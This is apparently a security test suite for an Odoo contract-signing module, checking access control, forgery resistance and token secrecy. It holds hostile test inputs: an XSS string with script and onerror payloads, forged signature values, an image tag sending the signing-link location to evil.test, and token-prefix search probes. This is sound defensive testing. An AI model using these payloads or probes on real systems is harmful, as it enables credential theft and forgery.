import base64
from contextlib import suppress

from psycopg2 import IntegrityError

from odoo import Command
from odoo.exceptions import UserError
from odoo.tests import new_test_user, tagged
from odoo.tools import mute_logger

from .common import TERMS
from .common_contract import EVIDENCE, PIXEL, ContractCommon

EVIL = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORGED_SIGNATURE = {
    "state": "signed",
    "signed_on": "2026-11-01 10:00:00",
    "signed_name": "Anja Bakker",
    "signature_method": "typed",
    "consent_text": "I agree.",
    "pdf_sha256": "0" * 64,
    "access_token": "A" * 43,
}


class ContractSecurityCommon(ContractCommon):
    """Own contracts, those of a colleague, and people who are to see none of either."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.recruiter.group_ids += cls.env.ref("base.group_allow_export")
        other = cls._create_professional(
            "Cor Vos", street="Weg 1", zip="1000 AA", city="Edam", company_registry="1", vat="NL1"
        )
        cls.others_placement = cls._create_placement(
            "negotiation",
            {**TERMS, "client_rate": 113.45, "professional_rate": 98.76},
            professional_id=other.id,
            user_id=cls.colleague.id,
        )
        cls.others_terms = cls.others_placement.terms_ids
        cls.others_contract, _ = cls._make_contracts(cls.others_terms, cls.colleague)
        cls.others_signer = cls._get_signer(cls.others_contract, "client")
        cls.portal_client = new_test_user(
            cls.env, "portia", "base.group_portal", partner_id=cls.contact.id
        )
        cls.portal_professional = new_test_user(
            cls.env, "piet", "base.group_portal", partner_id=cls.professional.partner_id.id
        )
        cls.contact.email = "anja@waterrijk.test"

    def _assert_refused(self, attempts, users=(None,), error=UserError):
        """Try each for each of the users; AccessError is a UserError, too."""
        for number, attempt in enumerate(attempts):
            for user in users:
                with (
                    self.subTest(number, user=user and user.login),
                    self.assertRaises(error),
                    self.cr.savepoint(),
                ):
                    attempt(user) if user else attempt()
                    self.env.flush_all()
                self.env.invalidate_all()

    def _get_attachment(self, record, field_name):
        return self.env["ir.attachment"].search(
            [
                ("res_model", "=", record._name),
                ("res_id", "=", record.id),
                ("res_field", "=", field_name),
            ]
        )


@tagged("post_install", "-at_install")
class TestContractAccess(ContractSecurityCommon):
    """R7: who may read and do what, and no way around."""

    def _get_records(self, contract):
        version = contract.version_id
        remark = contract.remark_ids or self.env["interim.contract.remark"].create(
            {"contract_id": contract.id, "text": "Their notice is too long"}
        )
        return [contract, version, version.article_ids[0], contract.signer_ids[0], remark]

    def test_outsiders_read_nothing(self):
        self._send(self.client_contract)
        users = [
            self.employee,
            self.portal_client,
            self.portal_professional,
            self.env.ref("base.public_user"),
        ]
        for record in self._get_records(self.client_contract):
            self._assert_refused(
                [
                    lambda user, r=record: r.with_user(user).read(["display_name"]),
                    lambda user, r=record: r.with_user(user).web_read({"display_name": {}}),
                    lambda user, r=record: r.with_user(user).search([]),
                    lambda user, r=record: r.with_user(user).name_search(""),
                    lambda user, r=record: r.with_user(user).formatted_read_group([], []),
                    lambda user, r=record: r.with_user(user).export_data(["display_name"]),
                    lambda user, r=record: r.with_user(user).write({"create_uid": 1}),
                    lambda user, r=record: r.with_user(user).unlink(),
                    lambda user, r=record: r.with_user(user).copy(),
                ],
                users,
            )

    def test_own_rights_reach_nothing_of_a_colleague(self):
        own = self.recruiter
        for record in self._get_records(self.others_contract):
            self.assertFalse(record.with_user(own).search([("id", "=", record.id)]))
            count = record.with_user(own).formatted_read_group(
                [("id", "=", record.id)], [], ["__count"]
            )
            self.assertEqual(count[0]["__count"], 0)
            self._assert_refused(
                [
                    lambda r=record: r.with_user(own).read(["display_name"]),
                    lambda r=record: r.with_user(own).web_read({"display_name": {}}),
                    lambda r=record: r.with_user(own).export_data(["display_name"]),
                    lambda r=record: r.with_user(own).write({}) or r.with_user(own).read(),
                    lambda r=record: r.with_user(own).unlink(),
                    lambda r=record: r.with_user(own).copy(),
                ]
            )
        contract = self.others_contract.with_user(own)
        names = ("client", "agency")
        signers = [self._get_signer(self.others_contract, name).with_user(own) for name in names]
        version = self.others_contract.version_id.with_user(own)
        self._assert_refused(
            [
                contract.action_new_version,
                contract.action_cancel,
                contract.action_send,
                contract.action_remind,
                contract.action_withdraw,
                contract.action_send_final,
                contract.action_sign_for_agency,
                contract.action_open_document,
                version.action_open_document,
                version.action_open_signed_document,
                self.others_terms.with_user(own).action_make_contracts,
                self.others_placement.with_user(own).action_make_contracts,
                self.others_placement.with_user(own).action_receive_contract,
                lambda: contract.message_post(body="Hello"),
                lambda: contract.message_subscribe(self.manager.partner_id.ids),
                lambda: self.others_placement.message_ids.with_user(own).read(["body"]),
                lambda: version.article_ids[0].action_reset(),
                lambda: version.article_ids[0].action_mark_checked(),
                lambda: signers[0].write({"capacity": "Mayor"}),
            ]
        )

    def test_own_rights_add_nothing_to_a_colleagues_contract(self):
        contract, own = self.others_contract, self.recruiter
        env = self.env(user=own)
        mine = self.client_contract.with_user(own)
        signer = {"role": "client", "partner_id": self.contact.id}
        article = {"heading": "Ours", "body_html": "<p>x</p>"}
        receive = {"file": base64.b64encode(b"%PDF-1.4 x"), "party": "client", "title": "x"}
        self._assert_refused(
            [
                lambda: env["interim.contract.signer"].create(
                    {"contract_id": contract.id, **signer}
                ),
                lambda: env["interim.contract.signer"].create(
                    {"contract_id": mine.id, "version_id": contract.version_id.id, **signer}
                ),
                lambda: env["interim.contract.remark"].create(
                    {"contract_id": contract.id, "text": "x"}
                ),
                lambda: env["interim.contract.version.article"].create(
                    {"contract_id": contract.id, **article}
                ),
                lambda: env["interim.contract.version.article"].create(
                    {"version_id": contract.version_id.id, **article}
                ),
                lambda: mine.write(
                    {
                        "article_ids": [
                            Command.create({"version_id": contract.version_id.id, **article})
                        ]
                    }
                ),
                lambda: mine.write({"all_signer_ids": [Command.link(contract.signer_ids[0].id)]}),
                lambda: mine.write({"version_ids": [Command.link(contract.version_id.id)]}),
                lambda: mine.write({"version_ids": [Command.delete(mine.version_id.id)]}),
                lambda: mine.write({"version_ids": [Command.clear()]}),
                lambda: self.placement.with_user(own).write(
                    {"contract_ids": [Command.link(contract.id)]}
                ),
                lambda: self.terms.with_user(own).write(
                    {"contract_ids": [Command.link(contract.id)]}
                ),
                lambda: env["interim.contract.remark"].create(
                    {
                        "contract_id": mine.id,
                        "text": "x",
                        "article_id": contract.version_id.article_ids[0].id,
                    }
                ),
                lambda: env["interim.contract.send"].create({"contract_id": contract.id}),
                lambda: env["interim.contract.receive"].create(
                    {"terms_id": self.others_terms.id, **receive}
                ),
                lambda: (
                    env["interim.contract.receive"]
                    .create({"terms_id": self.terms.id, "contract_id": contract.id, **receive})
                    .action_receive()
                ),
            ]
        )

    def test_forms_tell_nothing_of_a_colleagues_contract(self):
        contract, env = self.others_contract, self.env(user=self.recruiter)
        signer, terms = contract.signer_ids[0], self.others_terms
        title = {"title": {}, "party": {}, "placement_id": {"fields": {"display_name": {}}}}
        who = {"partner_id": {"fields": {"display_name": {}}}, "email": {}, "role": {}}
        send = env["interim.contract.send"]
        self._assert_refused(
            [
                lambda: send.onchange(
                    {"contract_id": contract.id}, ["contract_id"], {"line_ids": {"fields": who}}
                ),
                lambda: send.with_context(default_contract_id=contract.id).onchange(
                    {}, [], {"line_ids": {"fields": who}, "warning": {}}
                ),
                lambda: env["interim.contract.receive"].onchange(
                    {"terms_id": terms.id}, ["terms_id"], title
                ),
                lambda: env["interim.contract.remark"].onchange(
                    {"contract_id": contract.id}, ["contract_id"], {"placement_id": {"fields": {}}}
                ),
                lambda: env["interim.contract.receive"].onchange(
                    {"terms_id": self.terms.id, "contract_id": contract.id}, ["contract_id"], title
                ),
                lambda: (
                    env["interim.contract.receive"]
                    .create(
                        {
                            "terms_id": self.terms.id,
                            "contract_id": contract.id,
                            "party": "client",
                            "file": base64.b64encode(b"%PDF-1.4 x"),
                        }
                    )
                    .read(["title", "party"])
                ),
                lambda: env["interim.contract.send.line"].onchange(
                    {"signer_id": signer.id}, ["signer_id"], who
                ),
                lambda: send.onchange(
                    {"line_ids": [(0, "x", {"signer_id": signer.id})]},
                    ["line_ids"],
                    {"line_ids": {"fields": who}},
                ),
                lambda: (
                    env["interim.contract.send.line"]
                    .create(
                        {
                            "wizard_id": send.create({"contract_id": self.client_contract.id}).id,
                            "signer_id": signer.id,
                        }
                    )
                    .read(["partner_id", "email", "role", "signer_id"])
                ),
                lambda: env["interim.contract.preview"].onchange(
                    {"placement_id": self.others_placement.id},
                    ["placement_id"],
                    {"body_html": {}},
                ),
            ]
        )

    def test_wizards_are_for_who_opened_them(self):
        wizard = self.env["interim.contract.send"].with_user(self.colleague)
        wizard = wizard.create({"contract_id": self.client_contract.id})
        self.assertTrue(wizard.line_ids[0].body)
        receive = self.env["interim.contract.receive"].with_user(self.colleague)
        receive = receive.create(
            {
                "terms_id": self.terms.id,
                "party": "client",
                "file": base64.b64encode(b"%PDF-1.4 x"),
            }
        )
        others = wizard.with_user(self.recruiter)
        self._assert_refused(
            [
                lambda: others.read(["expires_on"]),
                lambda: others.line_ids.read(["body"]),
                lambda: wizard.line_ids.with_user(self.recruiter).read(["body"]),
                lambda: wizard.line_ids.with_user(self.recruiter).write({"body": "x"}),
                others.action_send,
                lambda: receive.with_user(self.recruiter).read(["file"]),
            ]
        )

    def test_handing_over_takes_along_everything(self):
        self._send(self.client_contract)
        records = self._get_records(self.client_contract)
        wizard = self.env["interim.contract.send"].with_user(self.recruiter)
        wizard = wizard.create({"contract_id": self.client_contract.id, "purpose": "remind"})
        self.placement.with_user(self.recruiter).user_id = self.colleague
        for record in records:
            self._assert_refused([lambda r=record: r.with_user(self.recruiter).read()])
        self._assert_refused([wizard.action_send])

    def test_company_rule(self):
        company = self.env["res.company"].create({"name": "Another Agency"})
        outsider = new_test_user(
            self.env,
            "outsider",
            "interim_placement.group_interim_manager",
            company_id=company.id,
            company_ids=[Command.set(company.ids)],
        )
        for record in self._get_records(self.client_contract):
            self.assertFalse(record.with_user(outsider).search([("id", "=", record.id)]))
            self._assert_refused([lambda r=record: r.with_user(outsider).read(["display_name"])])

    def test_the_link_is_nobodys_to_read(self):
        """Not by a field, a search, an order, a group, a template's condition or a mail."""
        self._send(self.client_contract)
        self._sign(self.client_contract, "agency")
        signer = self._get_signer(self.client_contract, "client")
        token = signer.sudo().access_token
        self.assertTrue(token)
        domain = [("access_token", "=like", token[:3] + "%")]
        behind = [("contract_ids.all_signer_ids.access_token", "=like", token[:3] + "%")]
        users = [self.recruiter, self.colleague, self.manager]
        self.colleague.group_ids += self.env.ref("base.group_allow_export")
        self.manager.group_ids += self.env.ref("base.group_allow_export")
        self._assert_refused(
            [
                lambda user: signer.with_user(user).read(["access_token"]),
                lambda user: signer.with_user(user).web_read({"access_token": {}}),
                lambda user: signer.with_user(user).search(domain),
                lambda user: self.terms.with_user(user).search(behind),
                lambda user: signer.with_user(user).search([], order="access_token"),
                lambda user: signer.with_user(user)._read_group([], ["access_token"]),
                lambda user: signer.with_user(user)._read_group([], [], ["access_token:min"]),
                lambda user: signer.with_user(user).filtered_domain(domain),
                lambda user: signer.with_user(user).write({"access_token": "A" * 43}),
                lambda user: self.env["mail.mail"].with_user(user).search([]),
            ],
            users,
        )
        for user in users:
            messages = self.env["mail.message"].with_user(user).search([])
            text = " ".join(f"{m.subject} {m.body}" for m in messages)
            self.assertNotIn(token, text)
            self.assertNotIn(token, str(signer.with_user(user).read()))
            self.assertNotIn(token, str(signer.with_user(user).export_data(["name"])))

    def test_a_condition_is_no_oracle(self):
        """Conditions are evaluated as superuser: they may ask only what their writer may read."""
        template = self.client_contract.template_id
        articles = self.env["interim.contract.article"].with_user(self.manager)
        for field in (
            "contract_ids.all_signer_ids.access_token",
            "placement_id.user_id.totp_secret",
        ):
            self._assert_refused(
                [
                    lambda field=field: articles.create(
                        {
                            "template_id": template.id,
                            "heading": "x",
                            "condition": f"[('{field}', '=like', 'a%')]",
                        }
                    ),
                    lambda field=field: (
                        template.article_ids[0]
                        .with_user(self.manager)
                        .write({"condition": f"[('{field}', '!=', False)]"})
                    ),
                ]
            )


@tagged("post_install", "-at_install")
class TestContractForgery(ContractSecurityCommon):
    """Who signed what is proven: nobody makes, changes or moves evidence by hand."""

    def _test_users(self):
        return [self.recruiter, self.colleague, self.manager]

    def test_state_and_signatures_are_not_written(self):
        signer = self._get_signer(self.client_contract, "client")
        contract = self.client_contract
        attempts = [
            lambda user, n=name, v=value: signer.with_user(user).write({n: v})
            for name, value in FORGED_SIGNATURE.items()
        ]
        attempts += [
            lambda user, n=name, v=value: contract.with_user(user).write({n: v})
            for name, value in {
                "state": "signed",
                "name": "C1",
                "terms_id": self.others_terms.id,
                "party": "professional",
                "paper": "received",
                "version_id": self.others_contract.version_id.id,
                "signed_on": "2026-11-01 10:00:00",
                "sent_on": "2026-11-01 10:00:00",
                "is_stale": False,
                "waiting_for": "client",
                "signed_count": 2,
                "user_id": self.manager.id,
                "company_id": 1,
                "placement_id": self.others_placement.id,
            }.items()
        ]
        attempts += [
            lambda user: self.terms.with_user(user).write({"contract_state": "signed"}),
            lambda user: contract.version_id.with_user(user).write({"sent_on": False}),
            lambda user: contract.version_id.with_user(user).write({"terms_values": {}}),
            lambda user: contract.version_id.with_user(user).unlink(),
            lambda user: contract.with_user(user).copy(),
            lambda user: contract.with_user(user).create(
                {"terms_id": self.terms.id, "party": "both", "state": "signed"}
            ),
            lambda user: self.terms.with_user(user).write(
                {"contract_ids": [Command.create({"party": "both", "state": "signed"})]}
            ),
        ]
        self._assert_refused(attempts, self._test_users())

    def test_defaults_fill_in_no_evidence(self):
        """Odoo takes values for any field from the caller's context."""
        forged = {f"default_{name}": value for name, value in FORGED_SIGNATURE.items()}
        signer = (
            self.env["interim.contract.signer"]
            .with_user(self.recruiter)
            .with_context(**forged)
            .create(
                {
                    "contract_id": self.client_contract.id,
                    "role": "client",
                    "partner_id": self.professional.partner_id.id,
                }
            )
        )
        self.assertEqual(signer.state, "waiting")
        self.assertFalse(signer.signed_name or signer.pdf_sha256 or signer.sudo().access_token)
        self.assertEqual(signer.version_id, self.client_contract.version_id)
        signer.unlink()
        self.terms.with_user(self.recruiter).with_context(
            **forged, default_pdf=base64.b64encode(b"%PDF-1.4 x"), default_sent_on="2026-11-01"
        ).action_make_contracts()
        self.client_contract.action_cancel()
        contract = self._make_contracts(
            self.terms.with_user(self.recruiter).with_context(
                **forged, default_pdf=base64.b64encode(b"%PDF-1.4 x"), default_sent_on="2026-11-01"
            )
        )[0]
        self.assertEqual(contract.state, "draft")
        self.assertEqual(set(contract.signer_ids.mapped("state")), {"waiting"})
        self.assertFalse(contract.version_id.pdf or contract.version_id.sent_on)

    def test_defaults_put_no_words_into_a_partys_mouth(self):
        remark = (
            self.env["interim.contract.remark"]
            .with_user(self.recruiter)
            .with_context(
                default_kind="remark",
                default_partner_id=self.contact.id,
                default_signer_id=self._get_signer(self.client_contract, "client").id,
            )
            .create({"contract_id": self.client_contract.id, "text": "Double the rate"})
        )
        self.assertEqual(remark.kind, "deviation")
        self.assertFalse(remark.partner_id or remark.signer_id)
        article = (
            self.env["interim.contract.version.article"]
            .with_user(self.recruiter)
            .with_context(default_key="t1", default_generated_html="<p>x</p>")
            .create({"contract_id": self.client_contract.id, "heading": "Ours"})
        )
        self.assertEqual(article.key, f"a{article.id}")
        self.assertFalse(article.generated_html)

    def test_files_are_not_changed_as_attachments(self):
        self._send(self.client_contract)
        self._sign(self.client_contract, signature=PIXEL)
        version = self.client_contract.version_id
        signer = self._get_signer(self.client_contract, "client")
        clerk = new_test_user(
            self.env, "sys", "base.group_system,interim_placement.group_interim_manager"
        )
        files = [(version, name) for name in ("pdf", "signed_pdf", "document_html")] + [
            (signer, "signature")
        ]
        for record, name in files:
            attachment = self._get_attachment(record, name)
            self.assertEqual(len(attachment), 1, name)
            owner = {"res_model": record._name, "res_id": record.id, "res_field": name}
            self._assert_refused(
                [
                    lambda user, a=attachment: a.with_user(user).write({"raw": b"forged"}),
                    lambda user, a=attachment: a.with_user(user).write(
                        {"datas": base64.b64encode(b"forged")}
                    ),
                    lambda user, a=attachment: a.with_user(user).write({"res_id": 0}),
                    lambda user, a=attachment: a.with_user(user).write({"res_field": False}),
                    lambda user, a=attachment: a.with_user(user).write({"public": True}),
                    lambda user, a=attachment: a.with_user(user).unlink(),
                    lambda user, a=attachment: a.with_user(user).generate_access_token(),
                    lambda user, o=owner: (
                        self.env["ir.attachment"]
                        .with_user(user)
                        .create({"name": "x", "raw": b"forged", **o})
                    ),
                    lambda user, o=owner: (
                        self.env["ir.attachment"]
                        .with_user(user)
                        .create({"name": "x", "raw": b"forged"})
                        .write(o)
                    ),
                ],
                [*self._test_users(), clerk, self.employee],
            )
        self._assert_refused(
            [
                lambda user, a=attachment: a.with_user(user).read(["datas"])
                for attachment in [self._get_attachment(*file) for file in files]
            ],
            [self.employee, self.portal_client, self.portal_professional],
        )
        self.assertEqual(version.integrity, "intact")

    def test_what_signed_people_were_stays(self):
        self._sign(self._send(self.client_contract), "agency")
        before = self.client_contract.signer_ids.read()
        contract = self.client_contract
        self._assert_refused(
            [
                lambda user: contract.signer_ids.with_user(user).write({"capacity": "Mayor"}),
                lambda user: contract.signer_ids.with_user(user).unlink(),
                lambda user: contract.with_user(user).write(
                    {"signer_ids": [Command.delete(contract.signer_ids[0].id)]}
                ),
                lambda user: contract.with_user(user).write(
                    {"signer_ids": [Command.create({"partner_id": self.contact.id})]}
                ),
                lambda user: contract.with_user(user).unlink(),
                lambda user: contract.version_id.article_ids[0].with_user(user).unlink(),
                lambda user: (
                    contract.version_id.article_ids[0].with_user(user).write({"sequence": 99})
                ),
                lambda user: contract.with_user(user).write(
                    {"article_ids": [Command.create({"heading": "x"})]}
                ),
            ],
            self._test_users(),
        )
        self._assert_refused(
            [
                lambda: self.placement.with_user(self.manager).unlink(),
                lambda: self.terms.with_user(self.manager).unlink(),
            ]
        )
        with mute_logger("odoo.sql_db"):
            self._assert_refused(
                [
                    lambda: self.portal_client.unlink() and self.contact.unlink(),
                    lambda: contract.template_id.with_user(self.manager).unlink(),
                ],
                error=IntegrityError,
            )
        self.assertEqual(self.client_contract.signer_ids.read(), before)

    def test_merging_contacts_keeps_the_evidence(self):
        self._sign(self._send(self.client_contract))
        signer = self._get_signer(self.client_contract, "client")
        evidence = ["signed_name", "name", "email", "signed_on", "pdf_sha256", "state"]
        before = signer.read(evidence)
        double = self.env["res.partner"].create({"name": "A. Bakker", "email": self.contact.email})
        self.env["base.partner.merge.automatic.wizard"].create(
            {"partner_ids": [self.contact.id, double.id], "dst_partner_id": double.id}
        ).action_merge()
        signer.invalidate_recordset()
        self.assertEqual(signer.read(evidence), before)
        self.assertEqual(signer.partner_id, double)
        self.assertEqual(self.client_contract.version_id.integrity, "intact")

    def test_no_template_of_the_other_side(self):
        """R6: it would show the rate of the side that it is written for."""
        templates = self.env["interim.contract.template"]
        for party in ("professional", "both"):
            template = templates.search([("party", "=", party)], limit=1)
            self._assert_refused(
                [
                    lambda user, t=template: self.client_contract.with_user(user).write(
                        {"template_id": t.id}
                    )
                ],
                self._test_users(),
            )
        self.client_contract.template_id.with_user(self.manager).write({"party": "professional"})
        with suppress(UserError):
            self.client_contract.with_user(self.recruiter).action_new_version()
        text = "".join(self.client_contract.version_id.article_ids.mapped("body_html"))
        self.assertNotIn("95.00", text)

    def test_a_party_is_not_exchanged_under_its_contract(self):
        other = self._create_professional("Bo Smit")
        assignment = self._create_assignment("Editor")
        self._send(self.client_contract)
        self._assert_refused(
            [
                lambda: self.placement.with_user(self.recruiter).write(
                    {"professional_id": other.id}
                ),
                lambda: self.placement.with_user(self.recruiter).write(
                    {"assignment_id": assignment.id}
                ),
                lambda: self.placement.write(
                    {
                        "company_id": self.env["res.company"].create({"name": "Another"}).id,
                        "professional_id": self.professional.id,
                    }
                ),
            ]
        )
        self.terms.contract_ids.with_user(self.recruiter).action_cancel()
        self.placement.with_user(self.recruiter).assignment_id = assignment
        self.assertEqual(self.placement.assignment_id, assignment)

    def test_the_certificate_names_every_address_that_got_the_link(self):
        """A recruiter can change a contact's address, and so read the link; it leaves a trace."""
        self._sign(self._send(self.client_contract), "agency")
        signer = self._get_signer(self.client_contract, "client")
        self.contact.with_user(self.recruiter).email = "rina@agency.test"
        self._send(self.client_contract, purpose="remind")
        self.assertEqual(signer.sudo().mail_id.recipient_ids, self.contact)
        self.assertIn("anja@waterrijk.test", signer.email)
        self.assertIn("rina@agency.test", signer.email)

    def test_who_is_asked_later_is_asked_at_the_address_of_then(self):
        self._send(self.client_contract)
        self.contact.email = "new@waterrijk.test"
        self._sign(self.client_contract, "agency")
        signer = self._get_signer(self.client_contract, "client")
        self.assertIn("new@waterrijk.test", signer.email)

    def test_the_link_goes_nowhere_else(self):
        """The place of the link in a mail is no part of another address."""
        wizard = self.env["interim.contract.send"].with_user(self.recruiter)
        wizard = wizard.create({"contract_id": self.client_contract.id})
        line = wizard.line_ids.filtered(lambda line: line.role == "client")
        place = line.signer_id._get_link_place()
        good = line.body
        evil = f'<p><img src="https://evil.test/?{place}"></p>'
        line.body = evil
        self._assert_refused([wizard.action_send])
        line.body = good + evil
        wizard.action_send()
        self._sign(self.client_contract, "agency")
        signer = self._get_signer(self.client_contract, "client").sudo()
        self.assertEqual(signer.mail_id.body_html.count(signer.access_token), 1)
        self.assertNotIn("evil.test/?" + signer._get_page_url(), signer.mail_id.body_html)

    def test_a_mail_for_everybody(self):
        """Who is left out would be asked by an empty mail, which nobody saw (R4)."""
        wizard = self.env["interim.contract.send"].with_user(self.recruiter)
        wizard = wizard.create({"contract_id": self.client_contract.id})
        client = wizard.line_ids.filtered(lambda line: line.role == "client")
        self.assertEqual(client.how, "turn")
        client.write({"how": "task", "body": False})
        self._assert_refused([wizard.action_send])
        client.unlink()
        self._assert_refused([wizard.action_send])

    def test_a_reply_does_not_bring_the_link_along(self):
        """Mail programs quote what is answered, and colleagues read the answer."""
        self._sign(self._send(self.client_contract), "agency")
        signer = self._get_signer(self.client_contract, "client").sudo()
        url = signer._get_page_url()
        mail = signer.mail_id
        reply = (
            f"From: anja@waterrijk.test\r\nTo: {mail.reply_to}\r\nSubject: Re: sign\r\n"
            f"Message-Id: <reply@waterrijk.test>\r\nIn-Reply-To: {mail.references}\r\n"
            f"References: {mail.references}\r\nDate: Tue, 24 Nov 2026 10:00:00 +0000\r\n"
            "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            f'<p>A question.</p><blockquote><a href="{url}">Read</a> {url}</blockquote>\r\n'
        )
        self.env["mail.thread"].message_process(False, reply.encode())
        message = self.placement.message_ids.filtered(lambda m: "A question." in m.body)
        self.assertEqual(len(message), 1)
        self.assertNotIn(signer.access_token, message.body)

    def test_who_answers_a_mail_does_not_answer_the_other_side(self):
        """R6: Odoo passes an answer on to who wrote what is answered, here the note of the mail."""
        placement = self._create_placement(
            "negotiation",
            TERMS,
            professional_id=self._create_professional("Bo Smit").id,
            contracting_model="brokerage",
        )
        placement.with_user(self.recruiter).action_make_contracts()
        contract = placement.contract_ids
        contract.article_ids.filtered("has_gap").unlink()
        contract.template_id.agency_signs = False
        self._send(contract)
        first, second = contract.signer_ids.sorted()
        first.with_user(self.portal_client).sudo()._sign("Anja", "", None, "I agree.", EVIDENCE)
        note = self.env["mail.message"].search(
            [("message_id", "=", second.sudo().mail_id.references)]
        )
        self.assertEqual(note.model, "interim.placement")
        self.assertEqual(note.author_id, self.recruiter.partner_id)

    def test_nobody_else_follows(self):
        for record in (self.client_contract, self.placement):
            records = record.with_user(self.recruiter)
            with suppress(UserError), self.cr.savepoint():
                records.message_subscribe(self.contact.ids)
            with suppress(UserError), self.cr.savepoint():
                records.write(
                    {
                        "message_follower_ids": [
                            Command.create(
                                {"res_model": record._name, "partner_id": self.contact.id}
                            )
                        ]
                    }
                )
            self.env.invalidate_all()
            self.assertNotIn(self.contact, record.message_partner_ids)

    def test_a_partner_of_another_company_does_not_sign(self):
        company = self.env["res.company"].create({"name": "Another Agency"})
        secret = self.env["res.partner"].create(
            {"name": "Secret", "email": "s@s.test", "company_id": company.id}
        )
        self._assert_refused(
            [
                lambda: (
                    self.env["interim.contract.signer"]
                    .with_user(self.recruiter)
                    .create(
                        {
                            "contract_id": self.client_contract.id,
                            "role": "client",
                            "partner_id": secret.id,
                        }
                    )
                )
            ]
        )

    def test_activities_are_not_pinned_on_contracts(self):
        values = {
            "res_model_id": self.env["ir.model"]._get_id("interim.placement"),
            "res_id": self.placement.id,
            "activity_type_id": self.env.ref("mail.mail_activity_data_todo").id,
        }
        activities = self.env["mail.activity"].with_user(self.recruiter)
        link = {"interim_contract_id": self.client_contract.id}
        self._assert_refused(
            [
                lambda: activities.create({**values, **link}),
                lambda: activities.create(values).write(link),
                lambda: activities.with_context(
                    default_interim_contract_id=self.client_contract.id
                ).create(values),
            ]
        )

    def test_hostile_names_are_text_everywhere(self):
        self.contact.write({"name": f"Anja {EVIL}", "function": EVIL})
        self.client.name = f"Gemeente {EVIL}"
        self.professional.partner_id.name = f"Sanne {EVIL}"
        self.placement.assignment_id.name = f"Adviser {EVIL}"
        self.terms.contract_ids.action_cancel()
        contract, _ = self._make_contracts(self.terms)
        self._send(contract)
        self._sign(contract, "agency")
        signer = self._get_signer(contract, "client").sudo()
        signer._remark(None, EVIL)
        signer._sign(EVIL, EVIL, None, EVIL, {**EVIDENCE, "user_agent": EVIL})
        texts = [
            *self.placement.message_ids.mapped("body"),
            *contract.message_ids.mapped("body"),
            contract.version_id.body_html,
            base64.b64decode(contract.version_id.document_html).decode(),
            contract.version_id._render_certificate(),
            signer.mail_id.body_html,
            *self.placement.activity_ids.mapped("summary"),
        ]
        for text in texts[:-1]:
            self.assertNotRegex(str(text), r"<script>alert|<img[^>]* onerror")
        self.assertEqual(contract.version_id.integrity, "intact")

    def test_odd_characters_do_not_keep_from_signing(self):
        name = "Ånja \U0001f600 \u05d0\u05d1 \uffff \u200d \U000e0001"
        self._send(self.client_contract)
        evidence = {**EVIDENCE, "user_agent": "Mozilla \x01\x0b\x7f \xff", "ip_address": "::1%eth0"}
        for signer in self.client_contract.signer_ids:
            signer.sudo()._sign(name, name, None, "I agree.", evidence)
        self.assertEqual(self.client_contract.state, "signed")
